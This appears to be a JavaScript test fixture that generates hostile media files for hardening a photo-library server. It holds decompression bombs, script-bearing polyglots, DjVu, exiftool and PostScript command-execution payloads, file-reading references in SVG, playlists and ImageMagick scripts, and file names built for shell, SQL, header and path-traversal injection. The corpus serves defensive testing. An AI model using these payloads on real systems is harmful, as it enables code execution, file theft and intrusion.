    'raw-profile.png': withChunks(good('photo.png'), chunk('zTXt', join('Raw profile type exif\0\0', deflateSync(latin('\nexif\n99999999\n' + '00'.repeat(30 << 20)))))),
    'drawing.svg': gzipSync(join(utf8('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">'), megabytes(128), '</svg>')),
    'block.mkv': matroska({ codec: 'V_MJPEG', width: 64, height: 48, frames: [bomb], encodings: compressed }),
    'header.mov': join(box('ftyp', 'qt  \0\0\0\0qt  '), box('moov', box('cmov', join(box('dcom', latin('zlib')), box('cmvd', join(u32(1 << 27), bomb)))))),
    'flash.flv': join('CWS\x08', u32le(0x7fffffff), bomb),
    'brotli.jxl': join('\0\0\0\x0cJXL \r\n\x87\n', box('ftyp', 'jxl \0\0\0\0jxl '), box('brob', join('xml ', u8(0x5b, 0xff, 0xff, 0x3f, 0, 0), Buffer.alloc(200))), good('photo.jxl')),
    'photo.gif': animatedGif(60_000, 5_000, 1),
  };
}

// One thing by its name, another by its bytes, or two at once.
export function polyglots({ good, canary }) {
  const script = `<script>fetch('${canary.http}/script')</script>`;
  const perl = `(metadata (Copyright "\\\n" . system("cat ${canary['secret.txt']} >${canary.pwned}") . "\\\nb"))`;
  const djvu = join('AT&TFORM', u32(perl.length + 12 + (perl.length & 1)), 'DJVUANTa', u32(perl.length), perl, perl.length & 1 ? '\0' : '');
  const zip = join('PK\x03\x04', u16le(10), Buffer.alloc(8), Buffer.alloc(12), u16le(28), u16le(0), '../../../../tmp/keepsake-pwn');
  return {
    'zip.jpg': join(good('photo.jpg'), zip),
    'zip-first.jpg': join(zip, good('photo.jpg')),
    'script.gif': join('GIF89a/*', good('photo.gif').subarray(8), `*/=1;fetch('${canary.http}/gif')`),
    'page.jpg': utf8(`<!doctype html>${script}`),
    'page.png': utf8(`<html>${script}</html>`),
    'page.svg': utf8(`<html>${script}</html>`),
    'script.svg': svg(script),
    'event.svg': svg(`<rect width="9" height="9" onload="fetch('${canary.http}/event')"/>`),
    'foreign.svg': svg(`<foreignObject width="400" height="300"><iframe xmlns="http://www.w3.org/1999/xhtml" src="file://${canary['secret.txt']}"/></foreignObject>`),
    'page-in-photo.jpg': withSegments(good('photo.jpg'), segment(0xfe, utf8(script))),
    'film.jpg': good('film.mp4'),
    'film.png': good('film.mkv'),
    'film.svg': good('film.avi'),
    'photo.mp4': good('photo.jpg'),
    'photo.avi': good('photo.png'),
    'photo.mkv': good('photo.heic'),
    'photo.mov': good('photo.gif'),
    'drawing.mp4': good('photo.svg'),
    'drawing.jpg': good('photo.svg'),
    'heic.jpg': good('photo.heic'),
    'jpeg.heic': good('photo.jpg'),
    'tiff.jpg': good('photo.tiff'),
    'jxl.webp': good('photo.jxl'),
    'program.jpg': join('\x7fELF\x02\x01\x01', Buffer.alloc(200)),
    'shell.jpg': latin(`#!/bin/sh\ncat ${canary['secret.txt']} >${canary.pwned}\n`),
    'djvu.jpg': djvu,
    'djvu.tiff': djvu,
    'djvu.dng': djvu,
    'djvu.heic': djvu,
    'document.jpg': join('%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(', canary.http, '/pdf)>>>>endobj\ntrailer<</Root 1 0 R>>'),
    'document.psd': latin(`%!PS\n(${canary['secret.txt']}) (r) file 1000 string readstring pop show showpage`),
    'postscript.jpg': latin(`%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%cat ${canary['secret.txt']} >${canary.pwned}) (w) file`),
    'postscript.tiff': join(u8(0xc5, 0xd0, 0xd3, 0xc6), u32le(30), u32le(60), Buffer.alloc(18), `%!PS (${canary['secret.txt']}) run`),
    // What metadata-extractor does not know exiftool is asked for, and that knows much.
    'config.nef': latin(`%Image::ExifTool::UserDefined = (); system("cat ${canary['secret.txt']} >${canary.pwned}"); 1;\n`),
    'arguments.nef': latin(`-config\n${canary['secret.txt']}\n-execute\n-o\n${canary.pwned}\n`),
    'stop.dng': latin('-stay_open\nFalse\n'),
    'postscript.nef': latin(`%!PS-Adobe-3.0\n%%Title: \\$(cat ${canary['secret.txt']})\n%BeginPhotoshop: 99\n% ${'41'.repeat(50_000)}\n%EndPhotoshop\n`),
    'torrent.nef': latin('d8:announce3:foo4:info' + 'l'.repeat(200_000)),
    'torrent-length.nef': latin('d8:announce3:foo4:info999999999999:x'),
    'list.nef': latin(`<?xml version="1.0"?><!DOCTYPE plist SYSTEM "file://${canary['secret.dtd']}"><plist version="1.0">${'<dict><key>a</key>'.repeat(20_000)}`),
    'binary-list.nef': join('bplist00', Buffer.alloc(64, 0xaf), Buffer.alloc(6), u8(8, 8), u64(0x7fffffff), u64(0), u64(8)),
    'loop.dng': latin('%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 1 0 R/Kids[1 0 R]/Metadata 1 0 R>>endobj\nxref\n0 2\n0000000000 65535 f \n0000000009 00000 n \ntrailer<</Root 1 0 R/Size 2/Prev 95>>\nstartxref\n95\n%%EOF'),
    'lines.nef': latin(`#EXTM3U\nfile://${canary['secret.txt']}\n`.repeat(20_000)),
    'link.nef': join(u32le(0x4c), u8(1, 0x14, 2, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46), u32le(0xffffffff), Buffer.alloc(200, 0xff)),
    'zeros.jpg': megabytes(1),
    'zeros.mp4': megabytes(1),
    'empty.jpg': Buffer.alloc(0),
    'empty.mp4': Buffer.alloc(0),
    'one.jpg': u8(0xff),
    'text.psd': join('8BPS\0\x01', Buffer.alloc(6), u16(3), u32(30_000), u32(30_000), u16(8), u16(3), Buffer.alloc(12)),
  };
}

// What asks for other files or the network: drawings, playlists, scripts of image programs, references of films.
export function references({ good, canary }) {
  const file = (name) => `file://${canary[name]}`;
  const all = {};
  const image = (href) => svg(`<image width="400" height="300" href="${href}" xlink:href="${href}"/>`);
  const depth = '../'.repeat(12);
  const drawings = {
    'image': image(file('secret.png')),
    'image-path': image(canary['secret.png']),
    'image-relative': image(depth + canary['secret.png'].slice(1)),
    'image-jpeg': image(file('secret.jpg')),
    'image-http': image(`${canary.http}/image.png`),
    'image-encoded': image(file('secret.png').replace('secret', '%73ecret')),
    'image-nested': image(`data:image/svg+xml;base64,${image(file('secret.png')).toString('base64')}`),
    'image-svg': image(file('secret.svg')),
    'image-bomb': image(`data:image/png;base64,${png(ihdr(30_000, 30_000, 1, 0), chunk('IDAT', zeros(30_000 * 3_751))).toString('base64')}`),
    'use': svg(`<use href="${file('secret.svg')}#x" xlink:href="${file('secret.svg')}#x"/>`),
    'filter': svg(`<filter id="f"><feImage href="${file('secret.png')}" xlink:href="${file('secret.png')}"/></filter><rect width="400" height="300" filter="url(#f)"/>`),
    'style': svg(`<style>@import url("${canary.http}/style.css"); @font-face { font-family: x; src: url("${canary.http}/font") } text { font-family: x }</style><text y="40">x</text>`),
    'style-file': svg(`<style>@import url("${file('secret.txt')}");</style><rect width="9" height="9" fill="url(${file('secret.svg')}#x)"/>`),
    'cursor': svg(`<cursor href="${canary.http}/cursor"/><a href="${canary.http}/a"><text y="40">x</text></a>`),
    'text': svg(`<text y="40"><tref xlink:href="${file('secret.svg')}#x"/></text>`),
    'include': svg(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${file('secret.svg')}"/>`),
    'stylesheet': svg('<rect width="9" height="9"/>', 'width="400" height="300"', `<?xml-stylesheet href="${file('secret.txt')}"?>`),
  };
  for (const [name, bytes] of Object.entries(drawings)) all[`${name}.svg`] = bytes;

  const hls = (uri, more = '') => latin(`#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:9\n${more}#EXTINF:9,\n${uri}\n#EXT-X-ENDLIST\n`);
  const playlists = {
    'hls-file': hls(file('secret.ts')),
    'hls-path': hls(canary['secret.ts']),
    'hls-http': hls(`${canary.http}/hls.ts`),
    'hls-concat': hls(`concat:${canary.http}/?|file:${canary['secret.txt']}`),
    'hls-key': hls(file('secret.ts'), `#EXT-X-KEY:METHOD=AES-128,URI="${canary.http}/key"\n`),
    'hls-map': hls(file('secret.mp4'), `#EXT-X-MAP:URI="${file('secret.mp4')}"\n`),
    'hls-subfile': hls(`subfile,,start,0,end,64,,:${canary['secret.txt']}`),
    'hls-crypto': hls(`crypto:${canary['secret.ts']}`),
    'hls-master': latin(`#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n${file('secret.ts')}\n`),
    'concat': latin(`ffconcat version 1.0\nfile ${canary['secret.mp4']}\n`),
    'concat-http': latin(`ffconcat version 1.0\nfile ${canary.http}/film.mp4\n`),
    'dash': utf8(`<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT1S"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>${file('secret.mp4')}</BaseURL></Representation></AdaptationSet></Period></MPD>`),
    'dash-http': utf8(`<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT1S"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>${canary.http}/dash.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>`),
    'sdp': latin('v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n'),
    'asx': utf8(`<asx version="3.0"><entry><ref href="${canary.http}/asx.wmv"/></entry></asx>`),
    'smil': utf8(`<smil><body><video src="${file('secret.mp4')}"/></body></smil>`),
    'ram': latin(`rtsp://127.0.0.1:${new URL(canary.http).port}/ram\n`),
    'avisynth': latin(`ImageSource("${canary['secret.png']}", 0, 25, 25)\n`),
    'graph': latin(`movie=${canary['secret.mp4']}`),
    'subtitles': latin(`{1}{1}25\n{1}{99}@${canary['secret.txt']}\n`),
    'vobsub': latin(`# VobSub index file, v7\nsize: 720x576\nid: en, index: 0\ntimestamp: 00:00:00:000, filepos: 000000000\n`),
    'reference-movie': join(box('ftyp', 'qt  \0\0\0\0qt  '), box('moov', box('rmra', box('rmda', box('rdrf', join(u32(0), 'url ', u32(canary.http.length + 1), canary.http, '\0')))))),
  };
  const extensions = ['mp4', 'mov', 'avi', 'mkv', 'ts', 'mpg', 'webm', 'wmv', '3gp', 'm2ts', 'flv', 'mxf'];
  Object.entries(playlists).forEach(([name, bytes], i) => {
    for (const extension of [extensions[i % extensions.length], extensions[(i + 3) % extensions.length]]) all[`${name}.${extension}`] = bytes;
  });
  all['alias.mov'] = movie({ codec: 'jpeg', width: 128, height: 128, sample: good('photo.jpg'), dref: alias(canary['secret.jpg']) });
  for (const name of ['secret.jpg', 'secret.mp4']) {
    for (const url of [canary[name], file(name), depth + canary[name].slice(1)]) {
      all[`url-${Object.keys(all).length}.mp4`] = movie({ codec: 'jpeg', width: 128, height: 128, sample: good('photo.jpg'), dref: box('url ', join(u32(0), url, '\0')) });
      all[`alias-${Object.keys(all).length}.mov`] = movie({ codec: 'jpeg', width: 128, height: 128, sample: good('photo.jpg'), dref: alias(url) });
    }
  }
  all['url.mov'] = movie({ codec: 'jpeg', width: 128, height: 128, sample: good('photo.jpg'), dref: box('url ', join(u32(0), canary.http, '/dref\0')) });
  all['subtitles-hls.avi'] = aviWithSubtitles(good('film.avi'), hls(`${canary.http}/gab2.ts`));
  all['subtitles-file.avi'] = aviWithSubtitles(good('film.avi'), hls(file('secret.ts')));
  all['attached.mkv'] = matroska({ codec: 'V_MJPEG', width: 64, height: 48, frames: [good('photo.jpg')], more: element(0x1941a469, element(0x61a7, join(element(0x466e, latin(`${depth}tmp/keepsake-pwn`)), element(0x4660, latin('application/x-mpegurl')), element(0x465c, hls(file('secret.ts'))), element(0x46ae, u8(1))))) });
  all['linked.mkv'] = matroska({ codec: 'V_MJPEG', width: 64, height: 48, frames: [good('photo.jpg')], info: join(element(0x3eb923, Buffer.alloc(16, 7)), element(0x3e83bb, utf8(canary['secret.mp4']))) });

  const scripts = {
    'mvg': `push graphic-context\nviewbox 0 0 400 300\nimage over 0,0 400,300 '${canary['secret.png']}'\nfill 'url(${canary.http}/mvg)'\npop graphic-context\n`,
    'msl': `<?xml version="1.0"?><image><read filename="${canary['secret.png']}"/><write filename="${canary.pwned}"/></image>`,
    'label': `label:@${canary['secret.txt']}`,
    'text': `@${canary['secret.txt']}`,
    'xbm': `#define x_width 9\n#include "${canary['secret.txt']}"\n`,
    'vid': `vid:${canary['secret.png']}`,
    'slide': `[GENERAL]\nSLIDE_VERSION = 1\n[HIERARCHICAL]\nINDEXFILE = ${canary['secret.txt']}\n`,
    'ppm': `P3 2 2 255 # ${canary['secret.txt']}\n1 2 3 4 5 6 7 8 9 1 2 3\n`,
  };
  for (const [name, text] of Object.entries(scripts)) {
    for (const extension of ['jpg', 'png', 'tiff', 'gif']) all[`${name}.${extension}`] = latin(text);
  }
  return all;
}

// Of cameras and albums, and what a template of paths may make of them.
export const badNames = ['../../../../etc/cron.d/pwn', '/etc/passwd', '..', '.', '...', 'NUL\0pwn', 'CON', 'aux.', 'trailing dots...', '\u202egpj.exe', 'ä'.repeat(126), 'line\r\nend', '.keepsake', 'a:b', '{{filename}}', ' ', '.xmp', 'upload'];

const camera = (make, model) => {
  const values = [make, model].map((text) => join(utf8(text), '\0'));
  let at = 8 + 2 + 2 * 12 + 4;
  const entries = values.map((value, i) => {
    // Four bytes stand in the entry itself.
    const entry = [0x010f + i, 2, value.length, value.length > 4 ? at : join(value, Buffer.alloc(4)).readUInt32LE()];
    at += value.length;
    return entry;
  });
  return exif(join(tiff(directory(entries)), values));
};

// Good photos by bad names, and of bad cameras. Names that are too long are refused, as by Immich.
export function names({ good }) {
  const cameras = badNames.map((name, i) => ({ name: `camera-${i}.jpg`, bytes: withSegments(good('progressive.jpg'), camera(name, `${name} ../pwn ${name}`)) }));
  const bidi = '\u202egpj.exe\u202c.jpg';
  return [
    '../../../../etc/cron.d/pwn.jpg',
    '..\\..\\..\\windows\\pwn.jpg',
    '/etc/passwd.jpg',
    '....//....//pwn.jpg',
    '..%2f..%2fpwn.jpg',
    '..jpg',
    '../.jpg',
    'nul\0.exe.jpg',
    'nul.jpg\0.exe',
    bidi,
    '\u2066rtl\u2069.jpg',
    'a'.repeat(251) + '.jpg',
    'a'.repeat(252) + '.jpg',
    'ä'.repeat(251) + '.jpg',
    '😀'.repeat(125) + '.jpg',
    '漢'.repeat(251) + '.jpg',
    'a'.repeat(4_000) + '.jpg',
    '-rf.jpg',
    '--help.jpg',
    '-config.jpg',
    '@argfile.jpg',
    'cat |.jpg',
    '|touch pwned|.jpg',
    '$(touch pwned).jpg',
    '`touch pwned`.jpg',
    '; touch pwned;.jpg',
    'line\r\nSet-Cookie: pwned=1\r\n\r\n.jpg',
    'quote"; filename="pwned.exe.jpg',
    "<img src=x onerror=alert(1)>'.jpg",
    '%n%s%d-%03d.jpg',
    'seq-%d.mp4.jpg',
    'concat:a|b.jpg',
    'file:secret.jpg',
    'http:127.0.0.1.jpg',
    'con.jpg',
    ' lead and trail .jpg ',
    '.hidden.jpg',
    'combining\u0301\u0300.jpg',
    '\ufeffbom.jpg',
    '\ud83d.jpg',
    "'; drop table asset; --.jpg",
    '{{filename}}.jpg',
    '${jndi:ldap:x}.jpg',
    'photo.jpg.xmp.jpg',
    '.jpg',
    'tab\ttab.jpg',
    'same.jpg',
    'same.jpg',
    'same+1.jpg',
    '.keepsake.jpg',
    'COM1.jpg',
    'dots....jpg',
  ].map((name) => ({ name, bytes: good('photo.jpg') })).concat(cameras);
}
